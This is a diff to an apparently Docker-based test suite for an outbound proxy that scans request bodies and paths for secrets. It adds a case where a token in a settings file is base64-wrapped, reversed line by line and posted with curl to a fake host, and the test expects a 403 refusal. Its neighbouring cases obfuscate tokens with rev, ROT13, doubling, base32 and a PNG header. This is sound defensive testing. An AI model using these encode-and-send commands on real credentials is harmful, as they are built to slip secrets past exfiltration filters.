@@ -347,7 +347,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     });
 
     await t.step(
-      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`), doubled, in base64 behind a file's signature, or in base32 after kilobytes of noise and behind a letter, in a body or a path's segment, is refused",
+      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`, wrapped or not), doubled, in base64 behind a file's signature, or in base32 after kilobytes of noise and behind a letter, in a body or a path's segment, is refused",
       async () => {
         const turned = await sh(
           `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
@@ -360,6 +360,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             // A file's base64 turned around (47 bytes: its one `=` of padding leads).
             `printf 'TOKEN=%s\\n' '${token}' | base64 -w0 | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
             "--data-binary @- https://plain.fake.test/v1/b64rev; echo; cat /tmp/refused; echo; " +
+            // Wrapped, each line turned (`rev` turns a line at a time; 125 bytes: three lines).
+            `printf '# settings for the deploy\\nDATABASE_URL=postgres://app@db/app\\nTOKEN=%s\\nLOG_LEVEL=debug\\nx' '${token}' | ` +
+            "base64 | rev | curl -sS -o /tmp/refused -w '%{http_code}' " +
+            "--data-binary @- https://plain.fake.test/v1/b64lines; echo; cat /tmp/refused; echo; " +
             `printf %s '${token}' | sed 's/./&&/g' | curl -sS -o /tmp/refused -w '%{http_code}' ` +
             "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused; echo; " +
             // Behind a PNG's signature, which shifts base64's groups of four.
@@ -378,13 +382,16 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
           /\n403\n.*GitHub token \(rule github-token\) in the body, in ROT13/,
         );
         assert.match(turned.stdout, /\n403\n.*in the body, reversed and in ROT13/);
-        assert.match(turned.stdout, /\n403\n.*in the body, in base64, reversed/);
+        assert.match(
+          turned.stdout,
+          /\n403\n.*in the body, in base64, reversed[^]*\n403\n.*in the body, in base64, reversed/,
+        );
         assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
         assert.match(turned.stdout, /\n403\n.*in the body, base64-encoded/);
         assert.match(turned.stdout, /\n403\n.*in the body, base32-encoded/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          8,
+          9,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -395,6 +402,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "/v1/both",
             `/v1/p/${reversed}/x`,
             "/v1/b64rev",
+            "/v1/b64lines",
             "/v1/doubled",
             "/v1/png",
             "/v1/b32",
